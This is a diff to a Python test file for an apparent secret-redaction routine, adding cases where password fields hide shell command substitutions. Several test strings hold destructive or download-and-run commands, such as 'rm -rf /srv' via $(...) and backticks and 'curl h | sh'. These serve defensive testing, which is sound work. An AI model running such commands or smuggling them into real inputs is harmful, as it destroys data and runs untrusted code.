@@ -148,6 +148,9 @@ def test_what_looks_like_a_secret_is_replaced_wherever_it_stands(text):
         ('{"client_secret":"cut off', f'{{"client_secret":"{MARK}'),
         ("grant_type=x&client_secret=s3cr3t&scope=a", f"grant_type=x&client_secret={MARK}&scope=a"),
         ("password=abc&b=1", f"password={MARK}&b=1"),
+        ("password=pa$word&b=1", f"password={MARK}&b=1"),
+        ("password=a$(rm${IFS}x) true", f"password={MARK}$(rm${{IFS}}x) true"),
+        ("x --password=a`rm`", f"x --password={MARK}`rm`"),
         ("curl -H 'Authorization: Bearer abc123' x", f"curl -H 'Authorization: Bearer {MARK}' x"),
     ],
 )
@@ -189,6 +192,7 @@ def test_options_and_variables_of_command_lines_lose_their_secret(line: str, wor
         "vault --token-file /run/token",
         'TOKEN=$(rm -rf /srv) TOKEN="$(curl h | sh)" x',
         "x --password `rm -rf /srv`",
+        "password=$(rm${IFS}-rf${IFS}/srv) true",
     ],
 )
 def test_commands_hide_behind_no_name_of_a_secret(text: str) -> None:
